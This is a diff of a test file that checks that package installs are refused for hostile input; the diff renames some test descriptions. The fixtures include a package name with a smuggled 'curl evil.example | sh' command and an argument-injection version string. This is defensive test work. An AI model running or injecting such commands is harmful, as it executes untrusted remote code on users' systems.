@@ -172,7 +172,7 @@ describe('an install is refused', () => {
   test.each([
     ['a command line in the name of the package', { identifier: 'x; curl evil.example | sh' }],
     ['a shell as its runtime', { runtimeHint: 'bash' }],
-    ['a version that is none', { version: '1.0.0 --package=evil' }],
+    ['an invalid version', { version: '1.0.0 --package=evil' }],
     ['an option of the runner', { runtimeArguments: [{ type: 'named', name: '--call', value: 'id' }] }],
   ])('with %s', async (_, change) => {
     publish({ packages: [{ ...npm, ...change }] });
@@ -218,8 +218,8 @@ describe('an install is refused', () => {
 
   test.each([
     ['both a package and a remote', { package: 0, remote: 0 }],
-    ['a field that is none', { command: ['sh'] }],
-    ['a name that is none', { name: 'No Name' }],
+    ['an unknown field', { command: ['sh'] }],
+    ['an invalid name', { name: 'No Name' }],
   ])('with %s', async (_, body) => {
     expect(await readRefusal(body)).toMatchObject({ status: 400, code: 'invalid_input' });
   });
